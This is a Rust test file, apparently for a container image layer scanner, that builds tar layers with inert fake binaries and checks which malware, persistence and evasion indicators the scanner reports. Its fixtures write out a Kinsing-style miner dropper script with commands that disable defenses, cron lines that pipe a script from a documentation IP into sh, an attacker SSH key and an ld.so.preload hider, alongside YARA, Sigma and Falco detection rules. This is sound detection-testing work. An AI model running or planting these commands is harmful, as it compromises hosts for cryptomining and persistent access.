//! Layer inspector tests on layers built here: tiny tar/gzip/zstd blobs with inert stand-ins
//! (fake ELF headers followed by strings, never a real miner).

use super::*;
use crate::inspect::wallet::tests::made_up_address;
use crate::inspect::Place;
use std::collections::BTreeSet;
use std::sync::OnceLock;

fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    RULES
        .get_or_init(|| Arc::new(RuleSet::builtin().expect("built-in rules load")))
        .clone()
}

/// The rules compiled for layers once, as the proxy does (compiling them takes a while in a
/// debug build, and some tests inspect hundreds of layers).
fn layer_rules() -> Arc<LayerRules> {
    static RULES: OnceLock<Arc<LayerRules>> = OnceLock::new();
    RULES
        .get_or_init(|| Arc::new(LayerRules::new(rules())))
        .clone()
}

/// A tiny deterministic generator (xorshift64*), for noise and fuzz cases.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// A layer under construction.
struct Layer(::tar::Builder<Vec<u8>>);

impl Layer {
    fn new() -> Layer {
        Layer(::tar::Builder::new(Vec::new()))
    }

    fn file(mut self, path: &str, mode: u32, data: &[u8]) -> Layer {
        let mut h = ::tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(mode);
        h.set_entry_type(::tar::EntryType::Regular);
        self.0.append_data(&mut h, path, data).unwrap();
        self
    }

    fn dir(mut self, path: &str) -> Layer {
        let mut h = ::tar::Header::new_gnu();
        h.set_size(0);
        h.set_mode(0o755);
        h.set_entry_type(::tar::EntryType::Directory);
        self.0.append_data(&mut h, path, &[][..]).unwrap();
        self
    }

    fn link(mut self, kind: ::tar::EntryType, path: &str, target: &str) -> Layer {
        let mut h = ::tar::Header::new_gnu();
        h.set_size(0);
        h.set_mode(0o777);
        h.set_entry_type(kind);
        self.0.append_link(&mut h, path, target).unwrap();
        self
    }

    /// A raw header whose name is written as is (the builder refuses `..`).
    fn raw(mut self, name: &[u8], data: &[u8]) -> Layer {
        let mut h = ::tar::Header::new_ustar();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(::tar::EntryType::Regular);
        h.set_cksum();
        self.0.append(&h, data).unwrap();
        self
    }

    fn tar(self) -> Vec<u8> {
        self.0.into_inner().unwrap()
    }
}

pub(crate) fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zst(data: &[u8]) -> Vec<u8> {
    zstd::encode_all(data, 3).unwrap()
}

fn inspect_with(
    bytes: &[u8],
    compression: Compression,
    limits: Limits,
    chunk: usize,
) -> LayerReport {
    let mut i = LayerInspector::with_layer_rules(
        layer_rules(),
        compression,
        limits,
        Some("sha256:test".into()),
    );
    for c in bytes.chunks(chunk.max(1)) {
        i.update(c);
    }
    i.finish()
}

fn inspect(bytes: &[u8], chunk: usize) -> LayerReport {
    inspect_with(bytes, Compression::Auto, Limits::default(), chunk)
}

/// (rule, path, place) of every finding.
fn found(r: &LayerReport) -> BTreeSet<(String, String, Place)> {
    r.findings
        .iter()
        .map(|f| {
            (
                f.rule.clone(),
                f.evidence.path.clone().unwrap_or_default(),
                f.place,
            )
        })
        .collect()
}

fn has(r: &LayerReport, rule: &str, path: &str, place: Place) -> bool {
    found(r).contains(&(rule.to_string(), path.to_string(), place))
}

/// An inert ELF stand-in: a header, then `strings` between noise.
fn fake_elf(shnum: u16, strings: &[&[u8]], noise: usize, seed: u64) -> Vec<u8> {
    let mut rng = Rng(seed);
    let mut out = elf::fake_header(2, shnum);
    for s in strings {
        out.extend(rng.bytes(noise));
        out.push(0);
        out.extend_from_slice(s);
        out.push(0);
    }
    out.extend(rng.bytes(noise));
    out
}

const KINSING_SCRIPT: &str = r#"#!/bin/bash
ulimit -n 65535
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
chattr -iua /tmp/ /var/tmp/
ufw disable
iptables -F
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs kill -9
history -c
crontab -r
echo "* * * * * wget -q -O - http://203.0.113.7/k.sh | sh" | crontab -
curl -s http://203.0.113.7/kinsing -o /tmp/kdevtmpfsi
nohup /tmp/kdevtmpfsi &
tail -f /dev/null
"#;

fn xmrig_config(wallet: &str) -> String {
    format!(
        r#"{{
    "autosave": true,
    "donate-level": 0,
    "cpu": {{"enabled": true, "huge-pages": true, "max-threads-hint": 100}},
    "randomx": {{"init": -1, "mode": "auto", "1gb-pages": true}},
    "pools": [
        {{"algo": "rx/0", "coin": "monero", "url": "pool.supportxmr.com:3333",
          "user": "{wallet}.rig01", "pass": "x", "keepalive": true, "tls": false}}
    ]
}}"#
    )
}

pub(crate) fn malicious_layer() -> Vec<u8> {
    let wallet = made_up_address(18, 11, 64);
    let miner = fake_elf(
        31,
        &[
            b"XMRig/%s libuv/%s%s",
            b"'h' hashrate, 'p' pause, 'r' resume",
            b"--cpu-affinity",
            b"donate.v2.xmrig.com",
            b"stratum+tcp://",
        ],
        3000,
        1,
    );
    let tampered = fake_elf(
        0,
        &[
            b"PROT_EXEC|PROT_WRITE failed",
            b"/proc/self/exe",
            b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $",
        ],
        20_000,
        2,
    );
    let hider = {
        let mut h = elf::fake_header(3, 22);
        h.extend_from_slice(
            b"\0readdir\0dlsym\0process_to_filter\0/proc/self/fd/%d\0/proc/%s/stat\0",
        );
        h
    };
    Layer::new()
        .dir("opt/.x/")
        .file("opt/.x/config.json", 0o644, xmrig_config(&wallet).as_bytes())
        .file("opt/.x/start.sh", 0o755, KINSING_SCRIPT.as_bytes())
        .file("usr/local/bin/dockerd", 0o755, &miner)
        .file("tmp/.cache/kswapd0", 0o755, &tampered)
        .file("etc/ld.so.preload", 0o644, b"/etc/libsystem.so\n")
        .file("etc/libsystem.so", 0o755, &hider)
        .file("root/.ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@box\n")
        .file("etc/cron.d/sys", 0o644, b"* * * * * root /tmp/.cache/kswapd0\n")
        .tar()
}

#[test]
fn malicious_layer_findings_name_their_rules_and_places() {
    let r = inspect(&gzip(&malicious_layer()), 64 << 10);
    assert!(r.complete(), "{:?}", r.errors);
    assert_eq!(r.format, LayerFormat::Gzip);
    let expect = [
        ("miner.xmrig-config", "/opt/.x/config.json", Place::File),
        (
            "miner.monero-wallet-in-file",
            "/opt/.x/config.json",
            Place::File,
        ),
        (
            "miner.pool-host-in-file",
            "/opt/.x/config.json",
            Place::File,
        ),
        (
            "miner.xmrig-strings",
            "/usr/local/bin/dockerd",
            Place::Executable,
        ),
        (
            "miner.xmrig-donate-host",
            "/usr/local/bin/dockerd",
            Place::Executable,
        ),
        (
            "miner.stratum-url",
            "/usr/local/bin/dockerd",
            Place::Executable,
        ),
        (
            "obfuscation.upx-tampered",
            "/tmp/.cache/kswapd0",
            Place::Executable,
        ),
        (
            "persistence.tmp-executable",
            "/tmp/.cache/kswapd0",
            Place::Executable,
        ),
        (
            "evasion.kernel-thread-name",
            "/tmp/.cache/kswapd0",
            Place::Executable,
        ),
        (
            "persistence.ld-so-preload",
            "/etc/ld.so.preload",
            Place::File,
        ),
        (
            "evasion.process-hider",
            "/etc/libsystem.so",
            Place::Executable,
        ),
        (
            "persistence.so-under-etc",
            "/etc/libsystem.so",
            Place::Executable,
        ),
        (
            "persistence.authorized-keys",
            "/root/.ssh/authorized_keys",
            Place::File,
        ),
        (
            "persistence.cron-suspicious",
            "/etc/cron.d/sys",
            Place::File,
        ),
        (
            "evasion.hidden-executable",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        (
            "evasion.disable-defenses",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        ("evasion.chattr", "/opt/.x/start.sh", Place::Executable),
        (
            "evasion.kill-competitors",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        (
            "evasion.history-clearing",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        (
            "evasion.crontab-rewrite",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        (
            "obfuscation.download-exec-in-script",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        (
            "obfuscation.raw-ip-download",
            "/opt/.x/start.sh",
            Place::Executable,
        ),
        ("miner.malware-name", "/opt/.x/start.sh", Place::Executable),
    ];
    let all = found(&r);
    for (rule, path, place) in expect {
        assert!(
            has(&r, rule, path, place),
            "missing {rule} at {path} ({place:?}); found {all:#?}"
        );
    }
    // The tampered stand-in is not also reported as an intact UPX or an unknown packer.
    assert!(!all.iter().any(|(rule, p, _)| p == "/tmp/.cache/kswapd0"
        && (rule == "obfuscation.upx" || rule == "obfuscation.packed-elf")));
    assert!(r.score() >= 100.0, "{}", r.score());
    assert_eq!(r.files, 8);
    for exe in [
        "/opt/.x/start.sh",
        "/usr/local/bin/dockerd",
        "/tmp/.cache/kswapd0",
        "/etc/libsystem.so",
    ] {
        assert!(
            r.executables.iter().any(|e| e == exe),
            "{exe} in {:?}",
            r.executables
        );
    }
    // Evidence: layer digest, path, offset for content hits, matched text cut short.
    let strings = r
        .findings
        .iter()
        .find(|f| f.rule == "miner.xmrig-strings")
        .unwrap();
    assert_eq!(strings.evidence.layer.as_deref(), Some("sha256:test"));
    assert!(strings.evidence.offset.is_some());
    assert!(
        strings.evidence.matched.contains("XMRig/%s"),
        "{}",
        strings.evidence.matched
    );
    assert!(r
        .findings
        .iter()
        .all(|f| f.evidence.matched.chars().count() <= crate::inspect::MAX_MATCH_CHARS + 1));
}

#[test]
fn benign_look_alikes_stay_below_warn() {
    let fund = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
    let yara = br#"rule MALW_XMRIG_Miner { strings: $a1 = "stratum+tcp" condition: $a1 }
rule XMRIG_Monero_Miner {
  strings:
    $s1 = "'h' hashrate, 'p' pause, 'r' resume" fullword ascii
    $s2 = "--cpu-affinity" ascii
    $s3 = "set process affinity to CPU core(s), mask 0x3 for cores 0 and 1" ascii
    $s4 = "password for mining server" fullword ascii
    $s5 = "XMRig/%s libuv/%s%s" fullword ascii
  condition: ( uint16(0) == 0x5a4d or uint16(0) == 0x457f ) and filesize < 10MB and 2 of them
}"#;
    let sigma = br#"title: Linux Crypto Mining Indicators
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains:
      - ' --cpu-priority='
      - '--donate-level=0'
      - ' -o pool.'
      - ' --nicehash'
      - ' --algo=rx/0 '
      - 'stratum+tcp://'
      - 'stratum+udp://'
      - 'LS1kb25hdGUtbGV2ZWw9'
      - 'c3RyYXR1bSt0Y3A6Ly'
      - 'sh -c /sbin/modprobe msr allow_writes=on'
  condition: selection
"#;
    let falco = b"- list: miner_domains\n  items: [\"pool.minexmr.com\", \"xmr.pool.minergate.com\", \"pool.supportxmr.com\"]\n";
    let readme = b"# detector\nDetects miners, e.g. `xmrig -o stratum+tcp://pool.example.com:3333 --donate-level=1`.\n";
    let test_py = b"def test_stratum():\n    assert detect('stratum+tcp://pool.example.com:3333')\n    assert detect('xmrig --donate-level=0')\n";
    let apt_compat = br#"#!/bin/sh

set -e

# Systemd systems use a systemd timer unit which is preferable to
# run. We want to randomize the apt update and unattended-upgrade
# runs as much as possible to avoid hitting the mirrors all at the
# same time. The systemd time is better at this than the fixed
# cron.daily time
if [ -d /run/systemd/system ]; then
    exit 0
fi

random_sleep()
{
    RandomSleep=1800
    eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)
    if [ $RandomSleep -eq 0 ]; then
	return
    fi
    if [ -z "$RANDOM" ] ; then
	RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))
    fi
    TIME=$(($RANDOM % $RandomSleep))
    sleep $TIME
}

random_sleep
check_power || exit 0
exec /usr/lib/apt/apt.systemd.daily
"#;
    let e2scrub = b"30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n";
    let unit = b"[Unit]\nDescription=App\n[Service]\nExecStart=/usr/local/bin/app --port 8080\nRestart=always\n[Install]\nWantedBy=multi-user.target\n";
    let upx = {
        let mut rng = Rng(9);
        let mut b = elf::fake_header(2, 0);
        b.extend(rng.bytes(120));
        b.extend_from_slice(b"UPX!");
        b.extend(rng.bytes(3000));
        b.extend_from_slice(b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\0PROT_EXEC|PROT_WRITE failed\0");
        b.extend(rng.bytes(80_000));
        b.extend_from_slice(b"UPX!");
        b
    };
    let monerod = fake_elf(
        40,
        &[
            b"monerod",
            b"Monero 'Fluorine Fermi' (v0.18.3.1-release)",
            b"--rpc-bind-port",
            b"start_mining",
            b"--bg-mining-enable",
            b"monero-wallet-rpc",
        ],
        2000,
        4,
    );
    let monero_readme =
        format!("# monerod\nDonate to the Monero General Fund: {fund}\nRun `monerod --detach`.\n");
    // One layer per §8 scenario (10 to 14): each is an image of its own.
    let security_tooling = Layer::new()
        .file("opt/rules/MALW_XMRIG_Miner.yar", 0o644, yara)
        .file(
            "opt/sigma/rules/linux/proc_creation_lnx_crypto_mining.yml",
            0o644,
            sigma,
        )
        .file("etc/falco/rules/falco_rules.yaml", 0o644, falco)
        .file(
            "var/lib/clamav/daily.cvd",
            0o644,
            b"ClamAV-VDB:...Multios.Coinminer.Miner-6781728-2:stratum+tcp://...",
        )
        .tar();
    let docs_and_tests = Layer::new()
        .file("app/README.md", 0o644, readme)
        .file(
            "usr/lib/python3/dist-packages/detector/tests/test_stratum.py",
            0o644,
            test_py,
        )
        .tar();
    let stock_debian = Layer::new()
        .file("etc/cron.daily/apt-compat", 0o755, apt_compat)
        .file("etc/cron.d/e2scrub_all", 0o644, e2scrub)
        .file("etc/systemd/system/app.service", 0o644, unit)
        .file("etc/ld.so.preload", 0o644, b"")
        .tar();
    let upx_cli = Layer::new()
        .file("usr/local/bin/autok3s", 0o755, &upx)
        .tar();
    let monero_node = Layer::new()
        .file("usr/local/bin/monerod", 0o755, &monerod)
        .file(
            "usr/share/doc/monero/README.md",
            0o644,
            monero_readme.as_bytes(),
        )
        .tar();
    // Found on a Debian system: procps's libproc2 has PROC_HIDE, sanitizer runtimes intercept
    // readdir as old_readdir, and ld.so.cache / ld.so.conf are not shared objects under /etc.
    let system_libs = Layer::new()
        .file(
            "usr/lib/x86_64-linux-gnu/libproc2.so.0.0.1",
            0o644,
            &fake_elf(28, &[b"PROC_HIDE", b"readproc"], 500, 6),
        )
        .file(
            "usr/lib/x86_64-linux-gnu/libasan.so.8.0.0",
            0o644,
            &fake_elf(30, &[b"old_readdir", b"readdir64"], 500, 7),
        )
        .file("etc/ld.so.cache", 0o644, b"glibc-ld.so.cache1.1")
        .file(
            "etc/ld.so.conf",
            0o644,
            b"include /etc/ld.so.conf.d/*.conf\n",
        )
        .tar();
    let mut all = BTreeSet::new();
    for (name, layer) in [
        ("system libraries", &system_libs),
        ("security tooling", &security_tooling),
        ("docs and tests", &docs_and_tests),
        ("stock debian", &stock_debian),
        ("UPX-packed CLI", &upx_cli),
        ("Monero node", &monero_node),
    ] {
        let r = inspect(&gzip(layer), 64 << 10);
        assert!(r.complete(), "{name}: {:?}", r.errors);
        assert!(
            r.score() < 20.0,
            "{name}: benign total {}: {:#?}",
            r.score(),
            found(&r)
        );
        all.extend(found(&r));
    }
    // Miner strings in rule files, docs and tests count as docs.
    for (rule, path) in [
        (
            "miner.stratum-url",
            "/opt/sigma/rules/linux/proc_creation_lnx_crypto_mining.yml",
        ),
        (
            "miner.base64-fragments",
            "/opt/sigma/rules/linux/proc_creation_lnx_crypto_mining.yml",
        ),
        (
            "miner.pool-host-in-file",
            "/etc/falco/rules/falco_rules.yaml",
        ),
        ("miner.stratum-url", "/var/lib/clamav/daily.cvd"),
        ("miner.stratum-url", "/app/README.md"),
        (
            "miner.stratum-url",
            "/usr/lib/python3/dist-packages/detector/tests/test_stratum.py",
        ),
        ("miner.tool-name", "/opt/rules/MALW_XMRIG_Miner.yar"),
    ] {
        assert!(
            all.contains(&(rule.to_string(), path.to_string(), Place::Docs)),
            "{rule} at {path}: {all:#?}"
        );
    }
    assert!(
        all.iter()
            .filter(|(_, p, _)| p != "/usr/local/bin/autok3s")
            .all(|(_, _, place)| *place == Place::Docs),
        "{all:#?}"
    );
    // The intact UPX binary is noted, at low weight, and nothing else is said about it.
    assert!(
        all.contains(&(
            "obfuscation.upx".into(),
            "/usr/local/bin/autok3s".into(),
            Place::Executable
        )),
        "{all:#?}"
    );
    assert_eq!(
        all.iter()
            .filter(|(_, p, _)| p == "/usr/local/bin/autok3s")
            .count(),
        1,
        "{all:#?}"
    );
    // Stock cron files, an empty ld.so.preload, a plain unit and a Monero node: nothing.
    for quiet in [
        "/etc/cron.daily/apt-compat",
        "/etc/cron.d/e2scrub_all",
        "/etc/ld.so.preload",
        "/etc/systemd/system/app.service",
        "/usr/local/bin/monerod",
        "/usr/lib/x86_64-linux-gnu/libproc2.so.0.0.1",
        "/usr/lib/x86_64-linux-gnu/libasan.so.8.0.0",
        "/etc/ld.so.cache",
        "/etc/ld.so.conf",
    ] {
        assert!(!all.iter().any(|(_, p, _)| p == quiet), "{quiet}: {all:#?}");
    }
    // The XMRig signature needs an ELF: in a YARA file it says nothing.
    assert!(
        !all.iter().any(|(rule, _, _)| rule == "miner.xmrig-strings"),
        "{all:#?}"
    );
}

#[test]
fn chunking_never_changes_the_findings() {
    let tar = malicious_layer();
    let gz = gzip(&tar);
    let zs = zst(&tar);
    let reference = found(&inspect(&gz, usize::MAX));
    assert!(reference.len() > 20);
    for (bytes, what) in [(&gz, "gzip"), (&zs, "zstd"), (&tar, "tar")] {
        for chunk in [1, 2, 7, 511, 512, 513, 4096, 65536, usize::MAX] {
            let r = inspect(bytes, chunk);
            assert!(r.complete(), "{what}/{chunk}: {:?}", r.errors);
            assert_eq!(found(&r), reference, "{what} in {chunk}-byte chunks");
        }
    }
    // Random chunk sizes, and identical offsets and evidence too.
    let mut rng = Rng(77);
    let one = inspect(&gz, usize::MAX);
    let mut i = LayerInspector::new(
        rules(),
        Compression::Auto,
        Limits::default(),
        Some("sha256:test".into()),
    );
    let mut rest = &gz[..];
    while !rest.is_empty() {
        let n = (rng.below(300) + 1).min(rest.len());
        i.update(&rest[..n]);
        rest = &rest[n..];
    }
    let r = i.finish();
    assert_eq!(r.findings, one.findings);
    assert_eq!(r.uncompressed_bytes, tar.len() as u64);
}

#[test]
fn a_literal_split_across_slices_is_found_once_with_its_offset() {
    // The file's content arrives in 1-byte slices; the literal sits across many boundaries.
    let mut data = vec![b'a'; 1000];
    data.extend_from_slice(b"stratum+tcp://pool.example:3333");
    let tar = Layer::new().file("srv/notes.cfg", 0o644, &data).tar();
    for chunk in [1, 3, 999, 1024] {
        let r = inspect(&tar, chunk);
        let f: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.rule == "miner.stratum-url")
            .collect();
        assert_eq!(f.len(), 1, "chunk {chunk}");
        assert_eq!(f[0].evidence.offset, Some(1000));
        assert_eq!(f[0].evidence.matched, "stratum+tcp://");
    }
}

#[test]
fn long_names_pax_paths_and_links_are_followed() {
    let deep = format!("home/{}/.ssh/authorized_keys", "d".repeat(150));
    let mut b = ::tar::Builder::new(Vec::new());
    // PAX path record for a regular file.
    b.append_pax_extensions([("path", b"etc/cron.d/pax-job".as_slice())])
        .unwrap();
    let mut h = ::tar::Header::new_ustar();
    let job = b"*/5 * * * * root curl -s http://198.51.100.4/x | sh\n";
    h.set_path("placeholder").unwrap();
    h.set_size(job.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, &job[..]).unwrap();
    let tar = Layer(b)
        .file(&deep, 0o600, b"ssh-rsa AAAAB3Nza attacker\n")
        .file("usr/bin/xmrig", 0o755, &fake_elf(20, &[b"hello"], 10, 3))
        .link(::tar::EntryType::Link, "usr/bin/innocent", "usr/bin/xmrig")
        .link(::tar::EntryType::Symlink, "usr/bin/sym", "/usr/bin/xmrig")
        .tar();
    let r = inspect(&tar, 100);
    assert!(r.complete(), "{:?}", r.errors);
    assert!(
        has(
            &r,
            "persistence.authorized-keys",
            &format!("/{deep}"),
            Place::File
        ),
        "{:#?}",
        found(&r)
    );
    assert!(
        has(
            &r,
            "persistence.cron-suspicious",
            "/etc/cron.d/pax-job",
            Place::File
        ),
        "{:#?}",
        found(&r)
    );
    assert!(
        has(&r, "miner.binary-name", "/usr/bin/xmrig", Place::Executable),
        "{:#?}",
        found(&r)
    );
    assert!(!found(&r).iter().any(|(_, p, _)| p == "/placeholder"));
    assert_eq!(r.executables, vec!["/usr/bin/xmrig", "/usr/bin/innocent"]);
    assert_eq!(r.entries, 5);
}

#[test]
fn path_traversal_is_a_finding() {
    let tar = Layer::new()
        .raw(b"../../etc/cron.d/evil", b"* * * * * root /tmp/x\n")
        .raw(b"/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
        .file("ok/file", 0o644, b"fine")
        .tar();
    let r = inspect(&tar, 4096);
    assert!(r.complete(), "{:?}", r.errors);
    let paths: BTreeSet<_> = r
        .findings
        .iter()
        .filter(|f| f.rule == "evasion.path-traversal")
        .filter_map(|f| f.evidence.path.clone())
        .collect();
    assert_eq!(
        paths,
        BTreeSet::from([
            "../../etc/cron.d/evil".to_string(),
            "/etc/passwd".to_string()
        ])
    );
}

#[test]
fn a_decompression_bomb_stops_inspection_with_a_finding() {
    let zeros = vec![0u8; 8 << 20];
    let tar = Layer::new().file("big", 0o644, &zeros).tar();
    let gz = gzip(&tar);
    let limits = Limits {
        bomb_floor: 1 << 20,
        ..Limits::default()
    };
    let r = inspect_with(&gz, Compression::Gzip, limits, 4096);
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "evasion.decompression-bomb"),
        "{:?}",
        r.findings
    );
    assert!(
        r.errors.iter().any(|e| e.contains("decompression bomb")),
        "{:?}",
        r.errors
    );
    assert!(
        r.uncompressed_bytes <= (1 << 20) + (64 << 10),
        "stopped near the floor: {}",
        r.uncompressed_bytes
    );
    // Under the default limits the same layer is fine (a 1000:1 ratio, but small).
    assert!(inspect(&gz, 4096).complete());
    // An absolute cap applies whatever the ratio.
    let capped = Limits {
        max_uncompressed: 100_000,
        ..Limits::default()
    };
    assert!(!inspect_with(&gz, Compression::Auto, capped, 4096).complete());
}

#[test]
fn huge_entries_and_long_records_are_clean_errors() {
    let limits = Limits {
        max_entry: 1000,
        max_ext: 200,
        ..Limits::default()
    };
    let tar = Layer::new().file("a", 0o644, &[b'x'; 5000]).tar();
    let r = inspect_with(&tar, Compression::None, limits, 512);
    assert!(
        r.errors.iter().any(|e| e.contains("declares 5000 bytes")),
        "{:?}",
        r.errors
    );
    let tar = Layer::new().file(&"n/".repeat(300), 0o644, b"x").tar();
    let r = inspect_with(&tar, Compression::None, limits, 512);
    assert!(
        r.errors.iter().any(|e| e.contains("extension record")),
        "{:?}",
        r.errors
    );
}

#[test]
fn not_a_layer_is_left_alone() {
    for (blob, why) in [
        (
            &br#"{"architecture":"amd64","config":{}}"#[..],
            NotALayer::NotTar,
        ),
        (b"", NotALayer::Empty),
        (b"\x1f", NotALayer::NotTar),
        (&[7u8; 2000][..], NotALayer::NotTar),
    ] {
        let r = inspect(blob, 3);
        assert_eq!(r.format, LayerFormat::NotALayer);
        assert_eq!(r.not_a_layer, Some(why));
        assert!(r.findings.is_empty());
        assert_eq!(r.compressed_bytes, blob.len() as u64);
    }
    // An empty tar (two zero blocks) is a layer with nothing in it.
    let r = inspect(&[0u8; 1024], 100);
    assert_eq!(r.format, LayerFormat::Tar);
    assert!(r.complete() && r.files == 0);
}

#[test]
fn truncated_and_corrupt_streams_report_errors_without_panicking() {
    let tar = malicious_layer();
    let gz = gzip(&tar);
    let zs = zst(&tar);
    // Go's reader ends cleanly when the stream stops in the padding after a file's data.
    let paddings: Vec<(usize, usize)> = ::tar::Archive::new(&tar[..])
        .entries()
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let end = (e.raw_file_position() + e.size()) as usize;
            (end, end.next_multiple_of(512))
        })
        .collect();
    for bytes in [&tar, &gz, &zs] {
        for cut_at in (0..bytes.len()).step_by(bytes.len() / 97 + 1) {
            let r = inspect(&bytes[..cut_at], 1000);
            let in_padding =
                bytes == &tar && paddings.iter().any(|&(s, e)| (s..e).contains(&cut_at));
            if cut_at > 600 && !in_padding {
                assert!(!r.complete(), "truncated at {cut_at} of {}", bytes.len());
            }
        }
    }
    // Files seen before the cut are still judged.
    let r = inspect(&tar[..tar.len() - 2000], 4096);
    assert!(
        r.errors.iter().any(|e| e.contains("tar stream ends")),
        "{:?}",
        r.errors
    );
    assert!(r.findings.iter().any(|f| f.rule == "miner.xmrig-config"));
    // Corrupt deflate data.
    let mut bad = gz.clone();
    for b in &mut bad[100..200] {
        *b ^= 0x5a;
    }
    let r = inspect(&bad, 333);
    assert!(!r.complete());
    assert!(
        r.errors.iter().any(|e| e.starts_with("gzip")),
        "{:?}",
        r.errors
    );
}

#[test]
fn random_and_mutated_input_never_panics() {
    let mut rng = Rng(0x5eed);
    let tar = malicious_layer();
    let gz = gzip(&tar);
    let (xzd, bzd) = (xz(&tar), bz2(&tar));
    for round in 0..400 {
        let mut data = match round % 5 {
            0 => tar.clone(),
            1 => gz.clone(),
            2 => xzd.clone(),
            3 => bzd.clone(),
            _ => {
                let mut d = b"\x1f\x8b".to_vec();
                let n = rng.below(5000);
                d.extend(rng.bytes(n));
                d
            }
        };
        for _ in 0..rng.below(20) + 1 {
            let at = rng.below(data.len());
            data[at] = rng.next() as u8;
        }
        let len = rng.below(data.len() + 1);
        let chunk = rng.below(2000) + 1;
        let r = inspect(&data[..len], chunk);
        assert!(r.findings.len() <= Limits::default().max_findings);
    }
    // Random bytes shaped like tar headers (valid checksums, random fields).
    for _ in 0..200 {
        let mut block = rng.bytes(512);
        block[257..263].copy_from_slice(b"ustar\0");
        let h = ::tar::Header::from_byte_slice(&block).clone();
        let mut h2 = h;
        h2.set_cksum();
        let mut data = h2.as_bytes().to_vec();
        let n = rng.below(3000);
        data.extend(rng.bytes(n));
        let _ = inspect(&data, rng.below(600) + 1);
    }
}

#[test]
fn findings_are_deduplicated_and_capped() {
    let mut layer = Layer::new();
    for i in 0..300 {
        layer = layer.file(
            &format!("srv/f{i}.cfg"),
            0o644,
            b"stratum+tcp://a stratum+tcp://b xmrig",
        );
    }
    layer = layer.file(
        "srv/miner",
        0o755,
        &fake_elf(10, &[b"XMRig/%s libuv/%s%s", b"--cpu-affinity"], 100, 5),
    );
    let r = inspect(&layer.tar(), 8192);
    let limits = Limits::default();
    assert_eq!(r.findings.len(), limits.max_findings);
    assert!(r.dropped_findings > 0);
    // The strongest finding survives the cap; one finding per (rule, path).
    assert!(r.findings.iter().any(|f| f.rule == "miner.xmrig-strings"));
    let pairs: BTreeSet<_> = r
        .findings
        .iter()
        .map(|f| (&f.rule, &f.evidence.path))
        .collect();
    assert_eq!(pairs.len(), r.findings.len());
    // Each rule counts once in the score, however many files repeat it.
    let per_rule: BTreeSet<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(r.score() <= per_rule.len() as f64 * 100.0);
}

#[test]
fn files_the_entrypoint_runs_are_upgraded() {
    let script = b"#!/bin/sh\ncurl -s http://example.invalid/i.sh | sh\n";
    let r0 = inspect(&Layer::new().file("entry.sh", 0o755, script).tar(), 4096);
    let mut r = r0.clone();
    let before = r
        .findings
        .iter()
        .find(|f| f.rule == "obfuscation.download-exec-in-script")
        .unwrap()
        .score;
    r.mark_runs(&["/entry.sh"]);
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "obfuscation.download-exec-in-script")
        .unwrap();
    assert_eq!(f.place, Place::Runs);
    assert!((f.score - before * 2.0).abs() < 1e-9);
    assert_eq!(r0.executables, vec!["/entry.sh"]);
}

#[test]
fn compressed_members_are_not_scanned_but_plain_ones_are() {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend_from_slice(b"tEXt stratum+tcp://pool");
    let tar = Layer::new()
        .file("img.png", 0o644, &png)
        .file("notes.conf", 0o644, b"stratum+tcp://pool")
        .tar();
    let r = inspect(&tar, 4096);
    let paths: Vec<_> = r
        .findings
        .iter()
        .filter_map(|f| f.evidence.path.as_deref())
        .collect();
    assert_eq!(paths, vec!["/notes.conf"]);
}

#[test]
fn multi_member_gzip_and_media_types() {
    let tar = malicious_layer();
    let (a, b) = tar.split_at(5000);
    let mut two = gzip(a);
    two.extend(gzip(b));
    let r = inspect_with(
        &two,
        Compression::from_media_type("application/vnd.oci.image.layer.v1.tar+gzip"),
        Limits::default(),
        999,
    );
    assert!(r.complete(), "{:?}", r.errors);
    assert_eq!(found(&r), found(&inspect(&tar, 4096)));
    assert_eq!(
        Compression::from_media_type("application/vnd.docker.image.rootfs.diff.tar.gzip"),
        Compression::Gzip
    );
    assert_eq!(
